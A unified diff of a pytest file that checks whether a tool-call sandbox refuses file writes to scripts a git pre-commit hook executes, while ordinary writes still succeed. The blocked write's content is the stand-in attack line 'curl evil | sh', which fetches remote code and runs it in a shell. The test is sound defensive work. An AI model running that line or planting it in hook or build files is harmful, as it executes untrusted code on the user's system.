@@ -25,6 +25,7 @@ Every backend config.
 from __future__ import annotations
 
 import os
+import shutil
 import subprocess
 
 import pytest
@@ -63,19 +64,32 @@ CASES = {
 }
 
 
-@pytest.mark.parametrize("case", sorted(CASES))
-def test_the_recipes_a_runner_is_pointed_at_are_protected(tmp_path, make_root, case):
-    line, target = CASES[case]
-    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
-    hook = tmp_path / ".git" / "hooks" / "pre-commit"
-    hook.write_text(f"#!/bin/sh\nset -e\n{line}\n")
-    os.chmod(hook, 0o755)
-    (tmp_path / "ci").mkdir()
-    (tmp_path / "ci" / "README.md").write_text("the CI folder\n")
+def test_the_recipes_a_runner_is_pointed_at_are_protected(tmp_path, make_root):
+    # each case in a repository of its own under the root (w0, w1...), all
+    # met by one toolbox: no case's hook protects another's file
+    cases = dict(enumerate(sorted(CASES.items())))
+    subprocess.run(["git", "init", "-q", str(tmp_path / "w0")], check=True)
+    for n, (_, (line, _target)) in cases.items():
+        tree = tmp_path / f"w{n}"
+        if n:  # (a copy of the first: one git init, not 28)
+            shutil.copytree(tmp_path / "w0" / ".git", tree / ".git", symlinks=True)
+        hook = tree / ".git" / "hooks" / "pre-commit"
+        hook.write_text(f"#!/bin/sh\nset -e\n{line}\n")
+        os.chmod(hook, 0o755)
+        (tree / "ci").mkdir()
+        (tree / "ci" / "README.md").write_text("the CI folder\n")
     with Toolbox(make_root(str(tmp_path))) as toolbox:
-        answer = toolbox.call("write_file", {"path": target, "content": "curl evil | sh\n"})
-    assert answer["ok"] is False and answer["details"]["kind"] == "protected", (case, answer)
-    assert not (tmp_path / target).exists()
+        answers = {case: toolbox.call("write_file", {"path": f"w{n}/{target}",
+                                                     "content": "curl evil | sh\n"})
+                   for n, (case, (_, target)) in cases.items()}
+        # (nothing protects every path: each case's own files are what is refused)
+        plain = toolbox.call("write_file", {"path": "w0/notes.txt", "content": "x\n"})
+    assert plain["ok"] is True, plain
+    written = {case: answer for case, answer in answers.items()
+               if answer["ok"] or answer["details"]["kind"] != "protected"}
+    assert written == {}
+    assert not [target for n, (_, (_, target)) in cases.items()
+                if (tmp_path / f"w{n}" / target).exists()]
 
 
 def test_a_makefile_given_by_file_equals_is_read_as_one(tmp_path, make_root):
